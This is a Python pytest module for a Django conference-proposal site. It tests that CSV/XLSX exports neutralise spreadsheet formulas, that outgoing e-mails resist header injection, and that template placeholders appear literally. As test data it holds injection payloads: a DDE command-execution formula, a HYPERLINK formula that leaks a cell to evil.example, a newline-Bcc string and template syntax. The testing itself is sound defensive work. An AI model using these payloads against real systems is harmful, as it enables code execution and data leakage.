"""Injection beyond HTML: spreadsheet formulas, e-mail headers and templates.

* Formula injection: titles, speaker names and e-mails, format and track names that start with
  ``= + - @`` (or a tab or carriage return before one) come out of every export (the chair's
  CSV and XLSX downloads, blind and revealed, and the ``export_shortlist`` and
  ``export_proposals`` commands) as text a spreadsheet will not run.
* E-mail header injection: a newline and ``Bcc: x@example.org`` in a call's name, a title, a
  speaker's, reviewer's or new user's name end up in no header of any message the site sends:
  submission receipt, address confirmation, co-speaker and reviewer invitations, reminder,
  password reset and decisions, each triggered through its page.
* Template injection: placeholders and ``{{ }}`` in people's text are shown and sent literally.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core import mail
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from cfp import models as cfp_models
from cfp import services as cfp_services
from cfp.domain.visibility import Phase
from diversity import queries as diversity_queries
from diversity import services as diversity_services
from reviews import models as review_models
from tests import factories, outbox_helpers
from tests.curation_world import Curation, curation, review
from tests.security.conftest import body, security_world

SEEING_CHAIRS = Phase(chairs_blind=False, identities_revealed=False)

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
)

# --- formula injection ------------------------------------------------------------------------


def formula_world(*, revealed: bool) -> Curation:
    """A shortlist whose every text cell starts with a formula."""
    w = curation(len(FORMULAS), revealed=revealed)
    cfp_models.Format.objects.filter(call=w.call).update(name="=FORMAT()")
    cfp_models.Track.objects.filter(call=w.call).update(name="@TRACK()")
    for i, (p, formula) in enumerate(zip(w.proposals, FORMULAS, strict=True)):
        cfp_models.Proposal.objects.filter(pk=p.pk).update(title=formula)
        cfp_models.Speaker.objects.filter(proposal_links__proposal=p).update(
            name=FORMULAS[-1 - i], email=f"=x{i}@example.org"
        )
        p.refresh_from_db()
        cfp_services.rescan_proposal(proposal=p)
        review_models.Decision.objects.create(
            proposal=p, status="accepted" if i % 2 else "waitlisted", version=1
        )
    return w


def unsafe_cells(rows: list[list[Any]]) -> list[str]:
    """Text cells a spreadsheet would read as a formula (numbers may be negative)."""
    out = []
    for row in rows:
        for cell in row:
            if not isinstance(cell, str) or not cell.startswith(FORMULA_STARTS):
                continue
            try:
                float(cell)
            except ValueError:
                out.append(repr(cell))
    return out


def csv_rows(data: str) -> list[list[Any]]:
    return [list(r) for r in csv.reader(io.StringIO(data))]


def xlsx_rows(data: bytes) -> tuple[list[list[Any]], list[str]]:
    """The cells' values, and every cell the workbook stores as a formula."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    assert sheet is not None
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return rows, formulas


def download(w: Curation, kind: str) -> bytes:
    response = w.client.get(reverse(f"chair:export_{kind}", args=[w.call.slug]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)  # type: ignore[attr-defined]


@pytest.mark.parametrize("revealed", [False, True], ids=["blind", "revealed"])
def test_no_csv_cell_of_the_chairs_export_starts_a_formula(revealed: bool) -> None:
    w = formula_world(revealed=revealed)

    rows = csv_rows(download(w, "csv").decode())

    assert len(rows) == len(FORMULAS) + 1
    assert any(cell.startswith("'=") for row in rows for cell in row), "the titles are there"
    assert unsafe_cells(rows) == []


@pytest.mark.parametrize("revealed", [False, True], ids=["blind", "revealed"])
def test_no_xlsx_cell_of_the_chairs_export_starts_a_formula(revealed: bool) -> None:
    w = formula_world(revealed=revealed)

    rows, formulas = xlsx_rows(download(w, "xlsx"))

    assert len(rows) == len(FORMULAS) + 1
    assert formulas == []
    assert unsafe_cells(rows) == []


def test_the_json_export_keeps_the_titles_as_they_are_for_scripts() -> None:
    w = formula_world(revealed=True)

    rows = json.loads(download(w, "json"))

    assert sorted(r["title"] for r in rows) == sorted(FORMULAS)


def test_the_revealed_export_carries_the_neutralised_speaker_cells() -> None:
    w = formula_world(revealed=True)

    header, *rows = csv_rows(download(w, "csv").decode())
    names = [row[header.index("speaker_names")] for row in rows]
    emails = [row[header.index("speaker_emails")] for row in rows]

    assert all(n.startswith("'") for n in names)
    assert all(e.startswith("'=x") for e in emails)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_export_shortlist_command_neutralises_formulas(kind: str, tmp_path: Path) -> None:
    w = formula_world(revealed=True)
    target = tmp_path / f"out.{kind}"

    call_command(
        "export_shortlist", "--call", w.call.slug, "--format", kind, "--output", str(target)
    )

    if kind == "csv":
        rows = csv_rows(target.read_text(encoding="utf-8"))
        formulas: list[str] = []
    else:
        rows, formulas = xlsx_rows(target.read_bytes())
    assert len(rows) == len(FORMULAS) + 1
    assert formulas == []
    assert unsafe_cells(rows) == []


def test_the_export_proposals_command_neutralises_formulas() -> None:
    w = formula_world(revealed=True)
    out = io.StringIO()

    call_command("export_proposals", "--call", w.call.slug, "--format", "csv", stdout=out)

    rows = csv_rows(out.getvalue())
    assert len(rows) == len(FORMULAS) + 1
    assert unsafe_cells(rows) == []


def test_a_control_character_before_a_formula_does_not_unmask_it_in_the_xlsx() -> None:
    w = formula_world(revealed=True)
    cfp_models.Proposal.objects.filter(pk=w.proposals[0].pk).update(title="\x01=1+1")

    rows, _formulas = xlsx_rows(download(w, "xlsx"))

    assert unsafe_cells(rows) == []


# --- e-mail header injection ------------------------------------------------------------------

INJECTED = "x@example.org"
NEWLINE_BCC = f"\r\nBcc: {INJECTED}"
PASSPHRASE = "Pass-phrase-42"


def _post(client: Client, name: str, data: dict[str, Any], **kwargs: str) -> None:
    response = client.post(reverse(name, kwargs=kwargs or None), data)
    assert response.status_code < 400, (name, response.status_code, body(response)[:500])


def send_every_email(capture: Callable[..., Any]) -> list[mail.EmailMessage]:
    """Trigger each e-mail the site sends, through its page, with newlines in people's text."""
    w = security_world()
    slug, code = w.call.slug, w.proposal.code
    cfp_models.Call.objects.filter(pk=w.call.pk).update(name=f"PyCon{NEWLINE_BCC}")
    for role in ("submitter", "reviewer", "chair"):
        user = w.users[role]
        user.first_name = f"{role.title()}{NEWLINE_BCC}"
        user.save(update_fields=["first_name"])
    cfp_models.Speaker.objects.filter(user=w.users["submitter"]).update(name=f"Samira{NEWLINE_BCC}")
    review_models.DecisionTemplate.objects.create(
        call=w.call,
        status="accepted",
        subject="Result: {title} for {speaker} at {call}",
        body="Dear {speaker},\n{title}\n{feedback}",
        include_feedback=True,
        updated_at=timezone.now(),
    )
    anonymous, submitter, chair = Client(), w.client("submitter"), w.client("chair")
    with capture(execute=True):
        _post(
            submitter,
            "cfp:submit",
            {
                "title": f"Talk{NEWLINE_BCC}",
                "abstract": "An abstract.",
                "format": "talk",
                "level": "beginner",
                "language": "en",
                "token": "header-injection",
            },
            slug=slug,
        )
        _post(
            anonymous,
            "signup",
            {
                "name": f"Nina{NEWLINE_BCC}",
                "email": "nina@example.org",
                "password": "Pass-phrase-42",
            },
        )
        _post(
            submitter,
            "cfp:speakers",
            {"action": "invite", "email": "co@example.org"},
            slug=slug,
            code=code,
        )
        _post(chair, "reviewers:list", {"emails": "ana@example.org"}, slug=slug)
        _post(chair, "chair:remind", {"reviewer": str(w.users["reviewer"].pk)}, slug=slug)
        _post(anonymous, "password_reset", {"email": w.users["submitter"].email})
        cfp_models.Proposal.objects.filter(pk=w.proposal.pk).update(title=f"Fast{NEWLINE_BCC}")
        review_models.Decision.objects.create(proposal=w.proposal, status="accepted", version=1)
        outbox_helpers.send_all(call_id=w.call.pk, actor_id=w.users["chair"].pk)
    return list(mail.outbox)


EXPECTED_SUBJECTS = (
    "We received your proposal",
    "Confirm your e-mail address",
    "Join a talk proposal",
    "You are invited to review",
    "Reminder: reviews",
    "Reset your password",
    "Result: Fast",
)


def header_problems(message: mail.EmailMessage) -> Iterator[str]:
    mime = message.message()
    for name, value in mime.items():
        if name.lower() in {"bcc", "cc"}:
            yield f"{message.subject!r}: a {name} header"
        # The subject may quote the text, on one line; no other header may carry it.
        if INJECTED in str(value) and name.lower() != "subject":
            yield f"{message.subject!r}: {name} carries the injected address"
        if "\n" in str(value).replace("\n ", "").replace("\n\t", ""):
            yield f"{message.subject!r}: {name} has a bare newline"
    if message.bcc or message.cc:
        yield f"{message.subject!r}: copies to {message.bcc + message.cc}"
    if INJECTED in message.recipients():
        yield f"{message.subject!r}: sent to the injected address"


def test_no_email_the_site_sends_carries_an_injected_header(
    django_capture_on_commit_callbacks: Callable[..., Any],
) -> None:
    sent = send_every_email(django_capture_on_commit_callbacks)

    problems = [p for m in sent for p in header_problems(m)]
    subjects = " | ".join(str(m.subject) for m in sent)

    assert all(s in subjects for s in EXPECTED_SUBJECTS), subjects
    assert problems == []


def test_the_newline_in_a_subject_becomes_a_space(
    django_capture_on_commit_callbacks: Callable[..., Any],
) -> None:
    sent = send_every_email(django_capture_on_commit_callbacks)

    decision = next(m for m in sent if m.subject.startswith("Result:"))

    assert decision.subject.startswith(f"Result: Fast Bcc: {INJECTED} for Samira Bcc: {INJECTED}")


def test_a_header_injection_check_can_fail() -> None:
    planted = mail.EmailMessage("Hi", "body", to=["a@example.org"], bcc=[INJECTED])

    assert list(header_problems(planted))


# --- template injection -----------------------------------------------------------------------

TEMPLATE_TEXT = "{speaker} {title!r} {call.__class__} {0} {{ 7*7 }} {% debug %} %(title)s"


def test_placeholders_in_a_title_and_a_name_are_sent_literally(
    django_capture_on_commit_callbacks: Callable[..., Any],
) -> None:
    w = curation(1, revealed=True)
    p = w.proposals[0]
    cfp_models.Proposal.objects.filter(pk=p.pk).update(title=f"Title {TEMPLATE_TEXT}")
    cfp_models.Speaker.objects.filter(proposal_links__proposal=p).update(
        name=f"Name {TEMPLATE_TEXT}"
    )
    review(p, factories.user("rev"), feedback=f"Feedback {TEMPLATE_TEXT}")
    review_models.DecisionTemplate.objects.create(
        call=w.call,
        status="accepted",
        subject="About {title}",
        body="Dear {speaker},\n{feedback}\n{code}",
        include_feedback=True,
        updated_at=timezone.now(),
    )
    review_models.Decision.objects.create(proposal=p, status="accepted", version=1)

    with django_capture_on_commit_callbacks(execute=True):
        outbox_helpers.send_all(call_id=w.call.pk, actor_id=w.chair.pk, approve_feedback=True)

    (message,) = mail.outbox
    assert message.subject == f"About Title {TEMPLATE_TEXT}"
    assert f"Dear Name {TEMPLATE_TEXT}," in message.body
    assert f"Feedback {TEMPLATE_TEXT}" in message.body
    assert p.code in message.body


def test_the_preview_shows_placeholders_in_a_title_literally() -> None:
    w = curation(1, revealed=True)
    p = w.proposals[0]
    cfp_models.Proposal.objects.filter(pk=p.pk).update(title=f"Title {TEMPLATE_TEXT}")
    review_models.DecisionTemplate.objects.create(
        call=w.call,
        status="accepted",
        subject="About {title}",
        body="Body for {speaker}",
        include_feedback=False,
        updated_at=timezone.now(),
    )
    review_models.Decision.objects.create(proposal=p, status="accepted", version=1)

    page = body(w.client.get(w.url("preview"), {"code": p.code}))

    assert "About Title {speaker} {title!r} {call.__class__} {0} {{ 7*7 }}" in page
    assert "49" not in page.split("About Title", 1)[1][:200]


def test_template_syntax_in_a_proposal_is_shown_literally_on_the_owners_page() -> None:
    w = security_world()
    cfp_models.Proposal.objects.filter(pk=w.proposal.pk).update(title=f"T {TEMPLATE_TEXT}")
    url = reverse("cfp:mine_detail", kwargs={"slug": w.call.slug, "code": w.proposal.code})

    page = body(w.client("submitter").get(url))

    assert "{{ 7*7 }} {% debug %}" in page
    assert "sql_queries" not in page, "{% debug %} did not run"


def test_braces_in_a_diversity_question_label_are_kept_literally() -> None:
    w = curation(2, revealed=True)
    now = timezone.now()
    review_models.Decision.objects.create(proposal=w.proposals[0], status="accepted", version=1)
    label = "Years {in tech}"
    question = diversity_services.add_question(
        call_id=w.call.pk, label=label, options=["Few", "Many"], self_describe=False, now=now
    )

    diversity_services.build_report(call_id=w.call.pk, now=now)

    page = diversity_queries.report_page(call_id=w.call.pk, phase=SEEING_CHAIRS)
    assert question
    assert page.error == ""
